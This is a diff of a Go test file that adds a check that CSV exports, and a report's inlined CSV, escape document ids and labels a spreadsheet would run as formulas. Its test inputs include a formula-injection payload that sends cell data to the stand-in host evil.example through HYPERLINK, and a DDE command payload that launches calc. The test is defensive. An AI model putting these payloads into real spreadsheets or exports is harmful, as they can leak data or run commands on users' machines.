@@ -2,6 +2,7 @@ package explore
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"math"
@@ -9,6 +10,7 @@ import (
 	"path/filepath"
 	"slices"
 	"sort"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -498,4 +500,80 @@ func TestLayoutWithoutLabels(t *testing.T) {
 	if d, _ := un.Document("3"); d.Label != "" {
 		t.Errorf("label %q without labels", d.Label)
 	}
+}
+
+// TestDocTopicsCSVInjection: ids and labels that a spreadsheet would run
+// as formulas are written with a leading single quote, in the CSV the
+// server exports and the one a report inlines; numeric columns and safe
+// text are written as they are.
+func TestDocTopicsCSVInjection(t *testing.T) {
+	ix := fixture(t)
+	g := *ix.g
+	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd|" /C calc"!A0`, `@SUM(1+1)`, `-1`, "\tx", "\rx"}
+	g.DocIDs = make([]string, g.NumDocs())
+	for i := range g.DocIDs {
+		g.DocIDs[i] = "doc" + strconv.Itoa(i)
+	}
+	copy(g.DocIDs, evil)
+	g.LabelNames = append([]string{`=1+1`}, g.LabelNames[1:]...)
+	inj, err := New(ix.m, &g, ix.emb)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	if err := inj.WriteDocTopicsCSV(&b, nil); err != nil {
+		t.Fatal(err)
+	}
+	var rep strings.Builder
+	if err := inj.Report(&rep, ReportOptions{MaxDocs: g.NumDocs(), TopicDocs: 1, WordsPerTopic: 1}); err != nil {
+		t.Fatal(err)
+	}
+	reportCSV := reportResponses(t, rep.String())["/v1/export/doc-topics.csv"].(string)
+	for name, text := range map[string]string{"export": b.String(), "report": reportCSV} {
+		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		byID := map[string][]string{}
+		for _, r := range rows[1:] {
+			byID[r[0]] = r
+		}
+		for _, id := range evil {
+			r, ok := byID["'"+id]
+			if !ok {
+				t.Errorf("%s: no row with id %q quoted", name, id)
+				continue
+			}
+			if _, err := strconv.Atoi(r[2]); err != nil {
+				t.Errorf("%s: top_topic %q is not a bare number", name, r[2])
+			}
+			if _, err := strconv.ParseFloat(r[3], 64); err != nil {
+				t.Errorf("%s: top_theta %q is not a bare number", name, r[3])
+			}
+		}
+		if _, ok := byID["doc10"]; !ok {
+			t.Errorf("%s: the safe id doc10 is not written as it is", name)
+		}
+		for _, r := range rows[1:] {
+			if c := r[1]; c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
+				t.Errorf("%s: label cell %q starts a formula", name, c)
+			}
+		}
+	}
+}
+
+// reportResponses returns the API answers a report inlines.
+func reportResponses(t *testing.T, html string) map[string]any {
+	t.Helper()
+	const open = `<script id="gtformer-data" type="application/json">`
+	_, rest, ok := strings.Cut(html, open)
+	data, _, ok2 := strings.Cut(rest, "</script>")
+	if !ok || !ok2 {
+		t.Fatal("the report holds no data element")
+	}
+	var d struct{ Responses map[string]any }
+	if err := json.Unmarshal([]byte(data), &d); err != nil {
+		t.Fatal(err)
+	}
+	return d.Responses
 }
